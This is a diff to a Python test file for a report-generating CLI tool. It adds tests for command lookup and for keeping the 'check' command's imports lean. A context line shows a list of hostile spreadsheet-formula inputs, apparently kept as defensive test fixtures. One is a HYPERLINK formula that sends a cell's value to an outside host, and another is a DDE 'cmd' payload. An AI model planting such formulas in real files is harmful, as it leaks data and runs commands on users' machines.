@@ -12,6 +12,7 @@ import subprocess
 import sys
 import zipfile
 
+import click
 import pytest
 import yaml
 from click.testing import CliRunner
@@ -38,9 +39,14 @@ HOSTILE = ['=HYPERLINK("http://example.com/?"&B19, "Klik her")', "=cmd|' /C calc
 def test_the_cli_group_has_every_command_reportgen_help_lists():
     listed = subprocess.run([sys.executable, "-m", "reportgen", "--help"], capture_output=True, text=True, check=True)
     commands = set(re.findall(r"^  (\w+)\s", listed.stdout.split("Commands:")[1], re.MULTILINE))
-    assert commands == set(cli.commands) == {"archive", "build", "check", "diff", "export", "extract", "history", "new",
-                                              "proof", "publish",
-                                              "serve", "sheets", "template"}
+    with click.Context(cli) as ctx:
+        assert commands == set(cli.list_commands(ctx)) == {
+            "archive", "build", "check", "diff", "export", "extract", "history", "new", "proof", "publish", "serve",
+            "sheets", "template"}
+        for name in commands:  # each one found in its module, under its own name
+            command = cli.get_command(ctx, name)
+            assert command is not None and command.name == name
+        assert cli.get_command(ctx, "nonsense") is None
 
 
 def test_the_commands_that_make_no_pdf_do_not_import_weasyprint(tmp_path):
@@ -52,6 +58,24 @@ def test_the_commands_that_make_no_pdf_do_not_import_weasyprint(tmp_path):
     loaded = subprocess.run([sys.executable, "-c", code, str(SAMPLE_CONFIG)], capture_output=True, text=True,
                             check=True, cwd=tmp_path)
     assert loaded.stdout.strip() == "[]"
+
+
+def test_reportgen_check_imports_only_what_reading_and_checking_need(tmp_path):
+    """The command as users run it: no templates (Jinja2, markdown-it), no PDF library, no archive,
+    no live preview; each would add to every check's start (bench/RESULTS.md)."""
+    code = ("import atexit, sys; from reportgen.cli import main; "
+            "atexit.register(lambda: print(' '.join(sorted({m.split('.')[0] for m in sys.modules}))));"
+            "sys.argv = ['reportgen', 'check', '-q', '-c', sys.argv[1]]; main()")
+    ran = subprocess.run([sys.executable, "-c", code, str(SAMPLE_CONFIG)], capture_output=True, text=True, cwd=tmp_path)
+    assert ran.returncode == 0, ran.stderr
+    loaded = set(ran.stdout.split())
+    assert {"openpyxl", "pydantic", "click"} <= loaded  # what it does need: the test can see imports
+    assert loaded.isdisjoint({"jinja2", "markdown_it", "weasyprint", "pypdf", "pikepdf", "watchfiles", "frictionless"})
+    modules = subprocess.run([sys.executable, "-c", code.replace("{m.split('.')[0] for m in sys.modules}",
+                                                                  "set(sys.modules)"), str(SAMPLE_CONFIG)],
+                             capture_output=True, text=True, cwd=tmp_path).stdout.split()
+    assert not [m for m in modules if m.startswith(("reportgen.render", "reportgen.archive", "reportgen.pdf",
+                                                     "reportgen.preview", "reportgen.cli.inputs"))]
 
 
 def test_the_changes_appendix_says_what_changed(sample_catalogue):
